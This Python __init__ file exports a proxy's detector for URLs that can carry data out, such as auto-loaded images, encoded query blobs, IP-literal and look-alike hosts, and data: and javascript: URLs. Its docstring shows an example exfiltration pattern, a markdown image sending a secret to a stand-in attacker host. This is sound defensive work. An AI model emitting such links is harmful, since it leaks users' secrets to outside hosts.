"""Finds URLs in text and reports those that could carry data out: images that a renderer fetches
on its own from a host nobody allowed (`![](https://attacker/?q=<secret>)`), links whose query,
path or subdomain carries an encoded blob, IP-literal hosts, look-alike (homograph) hosts,
`data:` and `javascript:` URLs.

One job per module: `find` (URLs and their markdown/HTML context in text), `parse` (a URL and its
host as a browser reads them), `domains` (public suffixes), `allow_list` (the hosts URLs may lead
to), `homographs` (look-alike hosts), `blobs` (encoded data in a URL), `plain_data` (data written
out), `named_fields` (values under names that say what they hold) and `detector` (the verdict on
each URL).
"""

from capsem_proxy.detectors.urls.allow_list import HostAllowList, check_host_entries
from capsem_proxy.detectors.urls.blobs import BlobLimits, carries_data
from capsem_proxy.detectors.urls.detector import URL_KINDS, UrlDetector, UrlKind
from capsem_proxy.detectors.urls.domains import is_public_suffix, registrable_domain
from capsem_proxy.detectors.urls.find import FoundUrl, find_urls, image_reference_labels
from capsem_proxy.detectors.urls.homographs import is_homograph
from capsem_proxy.detectors.urls.parse import ParsedUrl, parse_url

__all__ = [
    "URL_KINDS",
    "BlobLimits",
    "FoundUrl",
    "HostAllowList",
    "ParsedUrl",
    "UrlDetector",
    "UrlKind",
    "carries_data",
    "check_host_entries",
    "find_urls",
    "image_reference_labels",
    "is_homograph",
    "is_public_suffix",
    "parse_url",
    "registrable_domain",
]
